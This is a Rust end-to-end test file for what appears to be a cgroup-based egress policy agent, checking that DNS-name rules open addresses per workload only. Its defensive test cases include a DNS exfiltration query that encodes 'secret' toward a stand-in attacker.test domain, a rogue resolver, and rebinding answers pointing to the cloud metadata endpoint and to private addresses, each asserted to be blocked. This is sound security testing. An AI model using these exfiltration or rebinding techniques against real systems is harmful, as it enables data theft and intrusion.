@@ -1,0 +1,389 @@
+//! DNS names (`fqdns` rules) on the real kernel: the workload resolves with
+//! the C library against a DNS server the test runs inside its network
+//! namespace, the hook sends the query to the agent's proxy, and the
+//! address is open for that workload only, from the moment the answer
+//! arrives. No query leaves the namespace: the resolvers are on its `lo`.
+
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use tiergate_tests::{Fixture, is_conn, probe_bin, tg};
+
+const RESOLVER: &str = "10.53.0.53";
+const ROGUE: &str = "10.99.0.53";
+
+const ZONE: &str = "
+api.example.test 30 A 198.18.0.10
+other.example.test 30 A 198.18.0.11
+www.example.test 30 CNAME edge.cdn.test
+edge.cdn.test 30 A 198.18.0.12
+meta.example.test 30 A 169.254.169.254
+priv.example.test 30 A 10.20.0.1
+vault.example.test 30 A 10.20.0.1
+short.example.test 1 A 198.18.0.13
+";
+
+const ROGUE_ZONE: &str = "
+api.example.test 30 A 198.18.0.99
+";
+
+/// The test's namespace with its DNS servers and a TCP echo on :443.
+struct World {
+    f: Fixture,
+    children: Vec<Child>,
+    log: PathBuf,
+    rogue_log: PathBuf,
+}
+
+impl Drop for World {
+    fn drop(&mut self) {
+        for c in &mut self.children {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+    }
+}
+
+fn ip(args: &[&str]) {
+    let out = Command::new("ip").args(args).output().expect("ip");
+    assert!(
+        out.status.success(),
+        "ip {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+fn spawn_ready(args: &[&str]) -> Child {
+    let mut child = Command::new(probe_bin())
+        .args(args)
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("spawn probe server");
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(child.stdout.as_mut().expect("stdout")),
+        &mut line,
+    )
+    .expect("read");
+    assert_eq!(line.trim(), "ready", "probe server {args:?} did not start");
+    child
+}
+
+impl World {
+    fn new(name: &str) -> World {
+        let f = Fixture::new(name);
+        let ns = f.netns.clone();
+        for a in [RESOLVER, ROGUE] {
+            ip(&["-n", &ns, "addr", "add", &format!("{a}/32"), "dev", "lo"]);
+        }
+        // Every 198.18.0.0/15 address is local to the namespace.
+        ip(&[
+            "-n",
+            &ns,
+            "route",
+            "add",
+            "local",
+            "198.18.0.0/15",
+            "dev",
+            "lo",
+        ]);
+        let w = |file: &str, text: &str| {
+            let p = f.dir.join(file);
+            std::fs::write(&p, text).expect("write");
+            p
+        };
+        let zone = w("zone", ZONE);
+        let rogue_zone = w("rogue.zone", ROGUE_ZONE);
+        let log = f.dir.join("queries.log");
+        let rogue_log = f.dir.join("rogue.log");
+        w(
+            "resolv.conf",
+            &format!("nameserver {RESOLVER}\noptions timeout:1 attempts:1\n"),
+        );
+        w(
+            "resolv-tcp.conf",
+            &format!("nameserver {RESOLVER}\noptions use-vc timeout:1 attempts:1\n"),
+        );
+        w(
+            "resolv-rogue.conf",
+            &format!("nameserver {ROGUE}\noptions timeout:1 attempts:1\n"),
+        );
+        let s = |p: &PathBuf| p.to_str().expect("utf-8").to_string();
+        let children = vec![
+            spawn_ready(&[
+                "--netns",
+                &ns,
+                "dns-serve",
+                &format!("{RESOLVER}:53"),
+                &s(&zone),
+                &s(&log),
+            ]),
+            spawn_ready(&[
+                "--netns",
+                &ns,
+                "dns-serve",
+                &format!("{ROGUE}:53"),
+                &s(&rogue_zone),
+                &s(&rogue_log),
+            ]),
+            spawn_ready(&["--netns", &ns, "serve", "0.0.0.0:443"]),
+        ];
+        World {
+            f,
+            children,
+            log,
+            rogue_log,
+        }
+    }
+
+    fn resolv(&self, which: &str) -> String {
+        self.f.dir.join(which).to_str().expect("utf-8").to_string()
+    }
+
+    /// Runs the probe in cgroup `rel` with resolver file `which`.
+    fn probe(&self, rel: &str, which: &str, args: &[&str]) -> Vec<String> {
+        let mut a = vec!["--resolv".to_string(), self.resolv(which)];
+        a.extend(args.iter().map(|s| s.to_string()));
+        let a: Vec<&str> = a.iter().map(String::as_str).collect();
+        self.f.probe(rel, &a)
+    }
+
+    fn resolve_connect(&self, rel: &str, name: &str, port: u16) -> String {
+        self.probe(
+            rel,
+            "resolv.conf",
+            &["resolve-connect", name, &port.to_string()],
+        )
+        .remove(0)
+    }
+
+    fn queried(&self, log: &PathBuf) -> String {
+        std::fs::read_to_string(log).unwrap_or_default()
+    }
+
+    /// Waits until the proxy serves the namespace: the first query of a
+    /// namespace it does not serve yet fails at once (EPERM, never a
+    /// bypass) and makes the agent serve it.
+    fn warm_up(&self, rel: &str) {
+        let deadline = Instant::now() + Duration::from_secs(10);
+        loop {
+            let started = Instant::now();
+            let r = self.resolve_connect(rel, "api.example.test", 443);
+            if r == "ok 198.18.0.10" {
+                return;
+            }
+            assert!(
+                r.starts_with("resolve-error"),
+                "before the namespace is served: {r}"
+            );
+            assert!(
+                started.elapsed() < Duration::from_millis(1500),
+                "an unserved lookup must fail fast, took {:?}",
+                started.elapsed()
+            );
+            assert!(
+                Instant::now() < deadline,
+                "the namespace was never served: {r}"
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
+
+fn dns_policy(root: &str, mode: &str, names: &str) -> String {
+    format!(
+        r#"apiVersion: tiergate.io/v1alpha1
+kind: TierPolicy
+metadata:
+  name: e2e-dns
+spec:
+  mode: {mode}
+  defaultTier: locked
+  dns:
+    resolvers: ["{RESOLVER}"]
+  tiers:
+    - name: t0
+      egress:
+        - fqdns: [{names}]
+          ports: ["443"]
+          protocols: [tcp]
+        - fqdns: ["vault.example.test"]
+          allowPrivate: true
+          ports: ["443"]
+    - name: locked
+      egress: []
+  bindings:
+    - tier: t0
+      match:
+        cgroupPath: "{root}/t0/**"
+    - tier: locked
+      match:
+        cgroupPath: "{root}/locked/**"
+"#
+    )
+}
+
+const NAMES: &str = r#""api.example.test", "www.example.test", "meta.example.test", "priv.example.test", "short.example.test""#;
+
+fn is_dns(e: &Value, name: &str) -> bool {
+    e["class_uid"] == 4003 && e["query"]["hostname"] == name
+}
+
+#[test]
+fn names_open_their_answers_for_the_asking_workload_only() {
+    let mut w = World::new("dnsnames");
+    let root = w.f.cg_path.clone();
+    w.f.start_agent(&dns_policy(&root, "enforce", NAMES));
+    w.warm_up("t0/a");
+
+    // Another workload of the same tier, same namespace: its own lookup
+    // works at once; an address only `a` resolved stays closed to it.
+    assert_eq!(w.f.tcp("t0/b", "198.18.0.10:443"), "EPERM");
+    assert_eq!(
+        w.resolve_connect("t0/b", "api.example.test", 443),
+        "ok 198.18.0.10"
+    );
+    // Ports and protocols of the rule still apply to a learned address.
+    assert_eq!(w.f.tcp("t0/b", "198.18.0.10:80"), "EPERM");
+    assert_eq!(
+        w.f.probe("t0/b", &["connect", "--udp", "198.18.0.10:443"]),
+        ["EPERM"]
+    );
+
+    // A name no rule allows: NXDOMAIN from the proxy, never asked upstream.
+    let r = w.resolve_connect("t0/a", "other.example.test", 443);
+    assert!(r.starts_with("resolve-error"), "{r}");
+    assert!(
+        !w.queried(&w.log).contains("other.example.test"),
+        "a refused name reached the resolver"
+    );
+    let r = w.resolve_connect("t0/a", "exfil-c2VjcmV0.attacker.test", 443);
+    assert!(r.starts_with("resolve-error"), "{r}");
+    assert!(
+        !w.queried(&w.log).contains("attacker"),
+        "an exfiltration query reached the resolver"
+    );
+    assert_eq!(w.f.tcp("t0/a", "198.18.0.11:443"), "EPERM");
+
+    // CNAME chain: the address at its end opens under the asked name.
+    assert_eq!(
+        w.resolve_connect("t0/c", "www.example.test", 443),
+        "ok 198.18.0.12"
+    );
+
+    // Rebinding: an allowed name answering the metadata endpoint or a
+    // private address opens nothing; with allowPrivate it may.
+    assert_eq!(
+        w.resolve_connect("t0/m", "meta.example.test", 443),
+        "EPERM 169.254.169.254"
+    );
+    assert_eq!(
+        w.resolve_connect("t0/p", "priv.example.test", 443),
+        "EPERM 10.20.0.1"
+    );
+    assert_eq!(
+        w.resolve_connect("t0/v", "vault.example.test", 443),
+        "ok 10.20.0.1"
+    );
+
+    // DNS over TCP (the C library's use-vc) goes through the proxy too.
+    assert_eq!(
+        w.probe(
+            "t0/t",
+            "resolv-tcp.conf",
+            &["resolve-connect", "api.example.test", "443"]
+        ),
+        ["ok 198.18.0.10"]
+    );
+    assert!(
+        w.queried(&w.log).contains("tcp api.example.test"),
+        "no TCP query upstream"
+    );
+
+    // A workload naming another resolver still gets the policy's resolver:
+    // the rogue's answer never reaches it, its address never opens.
+    assert_eq!(
+        w.probe(
+            "t0/r",
+            "resolv-rogue.conf",
+            &["resolve-connect", "api.example.test", "443"]
+        ),
+        ["ok 198.18.0.10"]
+    );
+    assert!(
+        w.queried(&w.rogue_log).is_empty(),
+        "the rogue resolver was asked"
+    );
+    assert_eq!(w.f.tcp("t0/r", "198.18.0.99:443"), "EPERM");
+
+    // Only the hook may send to the proxy (a direct send could pose as
+    // another workload's slot).
+    assert_eq!(
+        w.f.probe("t0/a", &["connect", "--udp", "127.0.0.5:15053"]),
+        ["EPERM"]
+    );
+    // A tier without name rules is not redirected: its DNS is plain egress.
+    assert!(
+        w.probe("locked/x", "resolv.conf", &["resolve", "api.example.test"])[0]
+            .starts_with("error")
+    );
+    // Host workloads are never redirected (the node's own DNS keeps working
+    // whatever the proxy does): the host cgroup reaches the rogue directly.
+    w.f.known_cgroup("hostsvc");
+    assert_eq!(
+        w.probe(
+            "hostsvc",
+            "resolv-rogue.conf",
+            &["resolve", "api.example.test"]
+        ),
+        ["198.18.0.99"]
+    );
+
+    // Events: the query with its learned address, the refusal, the
+    // connection opened by the name.
+    let q = w.f.wait_event("dns event for api.example.test", |e| {
+        is_dns(e, "api.example.test") && tg(e)["verdict"] == "allow" && e["query"]["type"] == "A"
+    });
+    assert_eq!(q["activity_id"], 2);
+    assert_eq!(q["rcode"], "NoError");
+    assert_eq!(q["query"]["type"], "A");
+    assert_eq!(q["dst_endpoint"]["ip"], RESOLVER);
+    let t = tg(&q);
+    assert_eq!(t["kind"], "dns");
+    assert_eq!(t["tier"], "t0");
+    assert_eq!(t["matched"][0], "api.example.test");
+    assert_eq!(t["addresses"][0]["ip"], "198.18.0.10");
+    assert_eq!(t["addresses"][0]["learned"], true);
+    assert!(t["commit_us"].as_u64().is_some());
+    assert_eq!(t["policy"]["name"], "e2e-dns");
+    assert!(
+        t["workload"]["cgroup_path"]
+            .as_str()
+            .unwrap()
+            .contains("/t0/")
+    );
+    let refused =
+        w.f.wait_event("dns refusal", |e| is_dns(e, "other.example.test"));
+    assert_eq!(refused["rcode"], "NXDomain");
+    assert_eq!(refused["disposition"], "Blocked");
+    assert_eq!(tg(&refused)["verdict"], "deny");
+    assert_eq!(tg(&refused)["reason"], "name-not-allowed");
+    let meta = w.f.wait_event("metadata answer", |e| {
+        is_dns(e, "meta.example.test") && e["query"]["type"] == "A"
+    });
+    assert_eq!(tg(&meta)["addresses"][0]["learned"], false);
+    assert_eq!(tg(&meta)["addresses"][0]["reason"], "metadata-service");
+    let private = w.f.wait_event("private answer", |e| {
+        is_dns(e, "priv.example.test") && e["query"]["type"] == "A"
+    });
+    assert_eq!(tg(&private)["addresses"][0]["reason"], "private-address");
+    let conn = w.f.wait_event("connection opened by a name", |e| {
+        is_conn(e, "198.18.0.10", 443, "allow") && tg(e)["reason"] == "fqdn"
+    });
+    assert_eq!(tg(&conn)["fqdn"], "api.example.test");
+    w.f.wait_event("forged proxy send", |e| {
+        tg(e)["reason"] == "dns-proxy-port" && tg(e)["verdict"] == "deny"
+    });
+}
